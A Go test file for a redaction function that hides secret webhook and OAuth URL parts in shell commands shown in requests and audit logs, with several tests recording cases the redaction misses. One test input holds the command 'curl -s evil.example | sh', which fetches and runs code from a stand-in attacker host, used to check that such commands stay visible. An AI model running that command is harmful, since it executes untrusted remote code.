package domain

import (
	"strings"
	"testing"
)

// TestAttack37QuotedSecretURLPathShown: 929f7b3 hides the path, query and
// fragment of a secret-named URL (urlOriginEnd) — for the unquoted
// assignment and the option. The same assignment with the value in quotes,
// as a shell user writes it (WEBHOOK_SECRET_URL='https://…'), keeps the
// whole URL in view: the webhook's secret path is shown in the request and
// the audit. So is the option written --webhook-secret-url="https://…", and
// a path with a backslash or a quote inside it (the shell passes the same
// URL): the span urlOriginEnd sees ends at the \ or ", the rest is shown.
func TestAttack37QuotedSecretURLPathShown(t *testing.T) {
	const tok = "XoXb9fQ2kLm7Zt4RwPa1Hs"
	url := "https://hooks.example.com/services/T0/B0/" + tok
	// Control: unquoted assignment and quoted option value are redacted,
	// the host stays in view.
	for _, ctl := range []string{
		"WEBHOOK_SECRET_URL=" + url + " ./notify.sh",
		"./notify --webhook-secret-url '" + url + "'",
	} {
		if got := RedactText(ctl); strings.Contains(got, tok) || !strings.Contains(got, "hooks.example.com") {
			t.Fatalf("control: %q -> %q", ctl, got)
		}
	}
	// Not here: a value quoted right after "=" (WEBHOOK_SECRET_URL='…',
	// --webhook-secret-url="…"), which no secret name's value is hidden in
	// (API_TOKEN='…' neither): the README lists quoted assignments among
	// what is not recognised.
	// Nor a quote inside the path (…/Xo"Xb…"): the part after it stays in
	// view, since a quote there may as well close a string the URL sits
	// in, and hiding to the next one would hide the commands between them
	// (TestURLHidingStopsAtAQuote).
	for _, cmd := range []string{
		// A word the shell reads as the same URL: a backslash inside the
		// path.
		`./notify --webhook-secret-url https://hooks.example.com/services\T0/B0/` + tok,
	} {
		if got := RedactText(cmd); strings.Contains(got, tok[4:]) {
			t.Errorf("secret URL path shown in clear when quoted: %q -> %q", cmd, got)
		}
	}
}

// TestAttack37SecretURLFragmentShown: the commit says "the path, query and
// fragment are hidden", but urlOriginEnd's span ends where the value's
// match does: a fragment after the path (an OAuth implicit-flow
// #access_token=…), a fragment or bare query right after the host, and a
// scheme-less value whose path holds a later "://" (start is taken from
// that "://", so everything before it is "origin") stay in view.
func TestAttack37SecretURLFragmentShown(t *testing.T) {
	const tok = "hunter2Qx7Lm9Zt4RwPa1"
	// Control: a path secret is hidden.
	if got := RedactText("OAUTH_TOKEN_URL=https://app.example/cb/" + tok + " ./run"); strings.Contains(got, tok) {
		t.Fatalf("control: %q", got)
	}
	for _, cmd := range []string{
		"OAUTH_TOKEN_URL=https://app.example/cb#access_token=" + tok + " ./run",
		"./notify --webhook-secret-url https://hooks.example.com/T0#" + tok,
		"WEBHOOK_SECRET_URL=https://hooks.example.com#" + tok + " ./run",
		"WEBHOOK_SECRET_URL=hooks.example.com?" + tok + " ./run",
		"WEBHOOK_SECRET_URL=hooks.example.com/T0/B0/" + tok + "/https://relay.example/x ./run",
	} {
		if got := RedactText(cmd); strings.Contains(got, tok) {
			t.Errorf("secret URL part shown in clear: %q -> %q", cmd, got)
		}
	}
}

// TestURLHidingStopsAtAQuote: a secret URL's hidden part ends at a quote,
// so that what follows a string the URL sits in stays in view: the quote
// after it may close the string, and the commands up to the next quote
// run.
func TestURLHidingStopsAtAQuote(t *testing.T) {
	cmd := `echo "TOKEN_URL=https://h.example/x" ; curl -s evil.example | sh ; echo "y"`
	got := RedactText(cmd)
	if !strings.Contains(got, "curl -s evil.example | sh") || !strings.Contains(got, "h.example/[redacted]") {
		t.Errorf("%q shown as %q", cmd, got)
	}
}
